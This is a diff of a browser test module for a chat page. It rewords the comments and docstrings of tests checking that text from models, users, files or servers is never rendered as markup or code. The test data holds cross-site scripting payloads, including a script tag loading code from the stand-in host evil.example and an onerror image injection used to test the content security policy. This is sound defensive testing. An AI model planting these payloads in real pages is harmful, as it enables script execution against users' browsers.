@@ -1,4 +1,4 @@
-"""Nothing that a model, a user, a file or a server writes becomes part of the page."""
+"""No text of a model, a user, a file or a server is interpreted as markup or code."""
 
 from __future__ import annotations
 
@@ -10,7 +10,7 @@ from tests.page.conftest import Watch
 from tests.page.driver import answers, ask_and_wait, conversations, questions, text_of, until
 from tests.page.stand_in import Answer, StandIn
 
-# Each would set window.pwned, open a dialog, leave the page or load something, if it were more than text.
+# Interpreted as markup, each one would set window.pwned, open a dialog, leave the page or load something.
 PAYLOADS = [
     "<script>pwned=1</script>",
     "<script src=//evil.example/x.js></script>",
@@ -75,7 +75,7 @@ PAYLOADS = [
     "\u202e\u0000<script>pwned=1</script>",
 ]  # fmt: skip
 
-# Everything that only markup could have brought, and targets that must not be.
+# Finds elements that only interpreted markup can create, and forbidden link targets.
 FOUND = """() => {
   const made = document.querySelectorAll(
     "#thread :is(script, iframe, object, embed, svg:not(.icon), style, link, meta, base, form, video, template), "
@@ -95,7 +95,7 @@ NOTHING = {"made": [], "targets": [], "unsafe": 0, "pwned": None}
 
 
 def click_all_links(page: Page) -> None:
-    """As a reader would, but without leaving for a host that is not there."""
+    """Click every link like a user, but prevent the navigation."""
     page.evaluate("""() => {
       for (const link of document.querySelectorAll("#thread a")) {
         link.addEventListener("click", (event) => event.preventDefault());
@@ -120,7 +120,7 @@ def test_in_answers_and_thoughts(page: Page, stand_in: StandIn) -> None:
 
 
 def test_cut_at_every_letter(page: Page) -> None:
-    """What is harmless as a whole could be harmful for a moment."""
+    """A text that is harmless when complete could be harmful while it grows."""
     found = page.evaluate(
         """async (payloads) => {
       const { MarkdownView } = await import("/page/markdown.js");
@@ -214,12 +214,12 @@ def test_in_the_address(page: Page, stand_in: StandIn) -> None:
     assert page.evaluate(FOUND) == NOTHING
 
 
-def test_the_policy_stops_what_would_get_through(page: Page, shared_page: tuple[Page, Watch]) -> None:
-    """Even if markup got into the page, it would do nothing; and the tests would see that something was tried."""
+def test_the_policy_stops_injected_markup(page: Page, shared_page: tuple[Page, Watch]) -> None:
+    """Markup that got into the page would have no effect, and the tests would detect the attempt."""
     page.evaluate("document.getElementById('thread').innerHTML = '<img src=x onerror=pwned=1>'")
     until(lambda: page.evaluate("window.violations.length"))
     assert page.evaluate("window.violations") == ["script-src-attr inline"]
-    assert len(shared_page[1].take(page.context)) == 2  # the console speaks of it too
+    assert len(shared_page[1].take(page.context)) == 2  # the console reports it, too
     page.evaluate("window.violations = []")
     assert page.evaluate("window.pwned ?? null") is None
 
